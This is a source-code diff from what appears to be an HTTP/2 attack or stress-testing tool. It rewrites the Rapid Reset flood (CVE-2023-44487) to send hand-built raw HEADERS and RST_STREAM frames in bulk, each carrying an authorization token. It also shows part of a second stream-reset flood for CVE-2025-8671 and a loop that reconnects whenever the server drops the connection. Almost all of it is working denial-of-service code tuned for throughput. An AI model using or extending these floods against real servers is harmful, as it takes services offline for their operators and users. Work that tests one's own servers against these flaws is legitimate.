@@ -1,4 +1,4 @@
-import { connect, constants, type ClientHttp2Session } from "node:http2";
+import { connect, type ClientHttp2Session } from "node:http2";
 import { type Attack, pause, repeat, type Target } from "../attack.js";
 import { dial } from "../raw-connection.js";
 
@@ -29,15 +29,22 @@ function frame(type: number, flags: number, stream: number, payload: Uint8Array 
 }
 const get = Buffer.from("82878441016f", "hex"); // GET, https, /, and an authority
 
+/** A list with the user's token, by indices of HPACK's static table: :path is 4, authorization 23. */
+function authorizedList({ token }: Target): Buffer {
+  const text = (value: string): Buffer => Buffer.from(`${String.fromCharCode(value.length)}${value}`, "latin1");
+  const authorization = Buffer.concat([Buffer.from("0f08", "hex"), text(`Bearer ${token}`)]);
+  return Buffer.concat([Buffer.from("828704", "hex"), text(lists), Buffer.from("41016f", "hex"), authorization]);
+}
+
 /** The same frames without end on a connection, anew whenever the server ends it. */
-const flood = (name: string, frames: (turn: number) => Buffer): Attack => ({
+const flood = (name: string, frames: (turn: number, target: Target) => Buffer): Attack => ({
   name,
   run: (target, signal) =>
     repeat(signal, 2, async () => {
       const connection = await dial(target, signal, "h2");
       connection.write(preface);
       for (let turn = 0; !signal.aborted && !connection.socket.destroyed; turn++) {
-        if (!connection.socket.write(frames(turn)))
+        if (!connection.socket.write(frames(turn, target)))
           await Promise.race([
             connection.closed,
             new Promise((resolve) => connection.socket.once("drain", resolve)),
@@ -50,18 +57,16 @@ const flood = (name: string, frames: (turn: number) => Buffer): Attack => ({
 
 /** What a client can do to the connections of HTTP/2. */
 export const http2Attacks: readonly Attack[] = [
-  {
-    name: "streams that are opened and reset (CVE-2023-44487)",
-    run: (target, signal) =>
-      repeat(signal, 2, async () => {
-        const connection = await session(target, signal);
-        while (!signal.aborted && !connection.destroyed && !connection.closed) {
-          for (let at = 0; at < 100; at++) open(connection, target, lists).close(constants.NGHTTP2_CANCEL);
-          await pause(1, signal);
-        }
-        connection.destroy();
+  // As bytes: Node's own client is busy for minutes with the streams that it has still to open.
+  flood("streams that are opened and reset (CVE-2023-44487)", (turn, target) => {
+    const list = authorizedList(target);
+    return Buffer.concat(
+      Array.from({ length: 50 }, (_, at) => {
+        const stream = 2 * (turn * 50 + at) + 1;
+        return Buffer.concat([frame(1, 5, stream, list), frame(3, 0, stream, Buffer.from([0, 0, 0, 8]))]);
       }),
-  },
+    );
+  }),
   flood("streams that the server has to reset (CVE-2025-8671)", (turn) =>
     Buffer.concat(
       Array.from({ length: 50 }, (_, at) => {
